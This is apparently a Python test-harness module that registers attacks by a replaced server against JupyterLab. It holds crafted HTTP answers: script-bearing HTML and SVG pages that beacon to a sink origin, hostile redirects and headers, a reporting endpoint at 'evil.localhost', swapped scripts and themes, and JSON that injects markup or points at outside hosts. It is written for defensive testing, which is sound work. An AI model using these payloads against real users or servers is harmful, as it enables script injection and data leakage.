"""What a replaced server answers, each answer with a mark of its own by which its effect is known in the browser."""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import dataclass

from .model import Attack, Stands, attack
from .replaced_server import answer


@dataclass(frozen=True)
class Replaced:
    """An attack by a replaced server.

    Attributes
    ----------
    path
        What it answers: a regular expression below the base URL.
    reply
        The answer, given the sink's origin for this attack.
    ask
        What the browser does: `visit` an address, `fetch` from JupyterLab's page, or open the `lab`.
    at
        The address for `visit` and `fetch`.
    """

    attack: Attack
    path: str
    reply: Callable[[str], bytes]
    ask: str
    at: str = ""
    no_control: str = ""

    @property
    def mark(self) -> str:
        return f"m{self.attack.number}"


REPLACED: list[Replaced] = []


def replaced(
    number: int, title: str, path: str, reply: Callable[[str], bytes], ask: str, at: str = "", no_control: str = ""
) -> None:
    registered = attack(number, title, Stands.SERVER, reference="lab_channels 0.1, 0.2")
    REPLACED.append(Replaced(registered, path, reply, ask, at, no_control))


def hit(origin: str) -> str:
    """Return a page that tells the sink that its script ran."""
    return f"<!doctype html><script>new Image().src='{origin}/'</script>"


DATA = "api/contents/note.txt"
ONE = r"api/contents/note\.txt"
JSON = "application/json"

# Opened as a page.
replaced(910, "A page with a script in place of data", ONE, lambda e: answer(hit(e)), "visit", DATA)
replaced(911, "A page with a script in place of JupyterLab's", "lab", lambda e: answer(hit(e)), "visit", "lab")
replaced(912, "A page without a type, to be guessed", ONE, lambda e: answer(hit(e), ""), "visit", DATA)
replaced(
    913,
    "A page that is a series of pages (multipart)",
    ONE,
    lambda e: answer(
        f"--b\r\nContent-Type: text/html\r\n\r\n{hit(e)}\r\n--b--", "multipart/x-mixed-replace; boundary=b"
    ),
    "visit",
    DATA,
    no_control="Chromium shows no series of pages",
)
replaced(
    914,
    "A drawing with a script in place of a kernel's logo",
    r"kernelspecs/.*",
    lambda e: answer(
        f"<svg xmlns='http://www.w3.org/2000/svg'><script>fetch('{e}/',{{mode:'no-cors'}})</script></svg>",
        "image/svg+xml",
    ),
    "visit",
    "kernelspecs/python3/logo-svg.svg",
)
replaced(
    915,
    "A redirect of JupyterLab's page",
    "lab",
    lambda e: answer("", "", "302 Found", f"Location: {e}/"),
    "visit",
    "lab",
)
replaced(
    916,
    "A Refresh header on JupyterLab's page",
    "lab",
    lambda e: answer("<p>x", "text/html", "200 OK", f"Refresh: 0;url={e}/"),
    "visit",
    "lab",
)
replaced(
    917,
    "A Link header that loads in advance",
    "lab",
    lambda e: answer("<p>x", "text/html", "200 OK", f"Link: <{e}/x>; rel=preload; as=image"),
    "visit",
    "lab",
)
replaced(
    918,
    "An attachment in place of data",
    ONE,
    lambda e: answer("secret", "text/plain", "200 OK", "Content-Disposition: attachment; filename=m918.txt"),
    "visit",
    DATA,
)
replaced(
    919,
    "An attachment in place of JupyterLab's page",
    "lab",
    lambda e: answer(
        "secret", "application/octet-stream", "200 OK", "Content-Disposition: attachment; filename=m919.bin"
    ),
    "visit",
    "lab",
)
replaced(
    921,
    "A page whose policy reports every address",
    "lab",
    lambda e: answer(
        "<img src=/x>",
        "text/html",
        "200 OK",
        f"Content-Security-Policy-Report-Only: default-src 'none'; report-uri {e}/",
    ),
    "visit",
    "lab",
)
# Asked for by JupyterLab's page.
replaced(
    930, "A cookie with data", ONE, lambda e: answer("{}", JSON, "200 OK", "Set-Cookie: m930=1; Path=/"), "fetch", DATA
)
replaced(
    931,
    "A cookie with an error",
    ONE,
    lambda e: answer("{}", JSON, "404 Not Found", "Set-Cookie: m931=1; Path=/"),
    "fetch",
    DATA,
)
replaced(
    932,
    "A cookie with a page",
    "lab",
    lambda e: answer("<p>x", "text/html", "200 OK", "Set-Cookie: m932=1; Path=/"),
    "visit",
    "lab",
)
replaced(
    933, "A redirect of data", ONE, lambda e: answer("", "", "307 Temporary Redirect", f"Location: {e}/"), "fetch", DATA
)
replaced(
    934,
    "An order to forget what the browser keeps",
    ONE,
    lambda e: answer("{}", JSON, "200 OK", 'Clear-Site-Data: "storage"'),
    "fetch",
    DATA,
)
replaced(
    935,
    "Permission for every origin to read",
    ONE,
    lambda e: answer("{}", JSON, "200 OK", "Access-Control-Allow-Origin: *", "X-Marked: m935"),
    "header",
    DATA,
)
replaced(
    936,
    "A question for a password",
    ONE,
    lambda e: answer("{}", JSON, "401 Unauthorized", 'WWW-Authenticate: Basic realm="m936"'),
    "header",
    DATA,
)
replaced(
    937,
    "An order never to speak without TLS",
    ONE,
    lambda e: answer("{}", JSON, "200 OK", "Strict-Transport-Security: max-age=1", "X-Marked: m937"),
    "header",
    DATA,
)
replaced(
    938,
    "Another address for the same service",
    ONE,
    lambda e: answer("{}", JSON, "200 OK", 'Alt-Svc: h2="m938:443"'),
    "header",
    DATA,
)
replaced(
    939,
    "A wider scope for a script that stays",
    ONE,
    lambda e: answer("{}", JSON, "200 OK", "Service-Worker-Allowed: /m939"),
    "header",
    DATA,
)
replaced(
    940,
    "A map of a script's sources elsewhere",
    ONE,
    lambda e: answer("{}", JSON, "200 OK", "SourceMap: /m940"),
    "header",
    DATA,
)
replaced(
    941,
    "A place to report to",
    ONE,
    lambda e: answer("{}", JSON, "200 OK", 'Reporting-Endpoints: m941="http://evil.localhost/"'),
    "header",
    DATA,
)
replaced(
    942,
    "A header that goes on forever",
    ONE,
    lambda e: answer("{}", JSON, "200 OK", "X-Long: m942" + "x" * 60_000),
    "header",
    DATA,
)
replaced(
    943,
    "An answer without end",
    ONE,
    lambda e: b'HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n\r\n["' + b"m943" + b"x" * 80_000_000,
    "length",
    DATA,
)
replaced(944, "Data that is no JSON", ONE, lambda e: answer("m944<script>", JSON), "body", DATA)
replaced(945, "Data of another shape", ONE, lambda e: answer('{"m945": ["anything", "at", "all"]}', JSON), "body", DATA)
replaced(
    946,
    "Bytes squeezed, so that no filter reads them",
    ONE,
    lambda e: answer(b"m946" * 10, JSON, "200 OK", "Content-Encoding: x-m946"),
    "body",
    DATA,
)
# JupyterLab's own parts.
replaced(
    950,
    "Another main script",
    r"static/lab/.*\.js",
    lambda e: answer(f"new Image().src='{e}/'", "text/javascript"),
    "lab",
)
replaced(
    951,
    "Another script of an extension",
    r"lab/extensions/.*\.js",
    lambda e: answer(f"new Image().src='{e}/'", "text/javascript"),
    "lab",
)
replaced(
    952,
    "Another theme",
    r"lab/api/themes/.*\.css",
    lambda e: answer(f"body{{background:url({e}/)!important}}", "text/css"),
    "lab",
)
replaced(
    953,
    "A page whose configuration names scripts elsewhere",
    "lab(/tree.*)?",
    lambda e: answer(
        f"<script id=jupyter-config-data type=application/json>{{}}</script><script src='{e}/m953.js'></script>"
    ),
    "lab",
)
replaced(
    954,
    "A kernel whose logo is elsewhere",
    "api/kernelspecs",
    lambda e: answer(
        json.dumps(
            {
                "default": "python3",
                "kernelspecs": {
                    "python3": {
                        "name": "python3",
                        "resources": {"logo-64x64": f"{e}/", "logo-svg": f"{e}/"},
                        "spec": {
                            "argv": [],
                            "env": {},
                            "display_name": "<img src=x>",
                            "language": "python",
                            "metadata": {},
                        },
                    }
                },
            }
        ),
        JSON,
    ),
    "lab",
)
replaced(
    955,
    "A person whose picture is elsewhere",
    "api/me.*",
    lambda e: answer(
        json.dumps(
            {
                "identity": {
                    "username": "x",
                    "name": "x",
                    "display_name": "x",
                    "initials": "x",
                    "avatar_url": f"{e}/",
                    "color": "red",
                },
                "permissions": {},
            }
        ),
        JSON,
    ),
    "lab",
)
